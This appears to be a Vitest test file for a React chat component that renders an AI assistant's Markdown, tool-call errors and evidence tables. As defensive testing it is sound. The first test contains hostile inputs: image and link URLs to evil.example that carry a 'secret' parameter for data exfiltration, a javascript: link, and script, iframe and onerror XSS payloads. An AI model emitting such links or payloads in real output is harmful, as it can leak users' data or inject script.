// @vitest-environment happy-dom
import "@testing-library/jest-dom/vitest";
import { cleanup, render } from "@testing-library/react";
import { createRoutesStub } from "react-router";
import { afterEach, describe, expect, it } from "vitest";
import { MessageView, SafeMarkdown } from "./chat-message";

afterEach(cleanup);

function renderInRouter(node: React.ReactNode) {
  const Stub = createRoutesStub([{ path: "/", Component: () => <>{node}</> }]);
  return render(<Stub initialEntries={["/"]} />);
}

describe("the assistant's Markdown", () => {
  it("renders no raw HTML, no images, and links only to the app's own pages", () => {
    const hostile = [
      "**Bold** and a table:",
      "",
      "| a | b |",
      "|---|---|",
      "| 1 | 2 |",
      "",
      "![tracker](https://evil.example/pixel.png?d=secret)",
      "[exfiltrate](https://evil.example/?d=secret) [protocol-relative](//evil.example) [script](javascript:alert(1))",
      "[Review the proposal](/changes/5f0c1a52-8c1e-4c43-9d6a-0c3a8f1b2d3e)",
      "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=https://evil.example></iframe>",
    ].join("\n");
    const { container } = renderInRouter(<SafeMarkdown text={hostile} />);
    expect(container.querySelector("strong")).toHaveTextContent("Bold");
    expect(container.querySelector("table")).not.toBeNull();
    expect(container.querySelectorAll("img, script, iframe")).toHaveLength(0);
    const hrefs = [...container.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["/changes/5f0c1a52-8c1e-4c43-9d6a-0c3a8f1b2d3e"]);
    // Outside links stay readable as text, never clickable.
    expect(container).toHaveTextContent("exfiltrate");
  });

  it("shows a refused tool call, the evidence summary and a stored error", () => {
    const { container, getByTestId, getByRole } = renderInRouter(
      <ol>
        <MessageView
          message={{
            id: "m1",
            role: "assistant",
            metadata: { error: "The model provider rejected the API key (HTTP 401). Check AI_API_KEY, then retry." },
            parts: [
              {
                type: "dynamic-tool",
                toolName: "apply_change_set",
                toolCallId: "c1",
                state: "output-error",
                input: {},
                errorText: "Refused: there is no tool named “apply_change_set”.",
              },
              {
                type: "tool-list_campaigns",
                toolCallId: "c2",
                state: "output-available",
                input: {},
                output: {
                  summary: "Read 3 campaigns, Jan 1 – Jan 31, 2026",
                  columns: [{ key: "name", label: "Campaign", kind: "text" }],
                  rows: [{ name: "Cakes" }],
                },
              },
            ] as never,
          }}
          retry={<button type="button">Retry</button>}
        />
      </ol>,
    );
    expect(getByTestId("tool-error")).toHaveTextContent("Refused: there is no tool named “apply_change_set”.");
    expect(getByTestId("evidence").querySelector("summary")).toHaveTextContent("Read 3 campaigns, Jan 1 – Jan 31, 2026");
    expect(getByTestId("evidence")).toHaveTextContent("Cakes");
    expect(getByRole("alert")).toHaveTextContent("rejected the API key");
    expect(container.querySelector("button")).toHaveTextContent("Retry");
  });
});
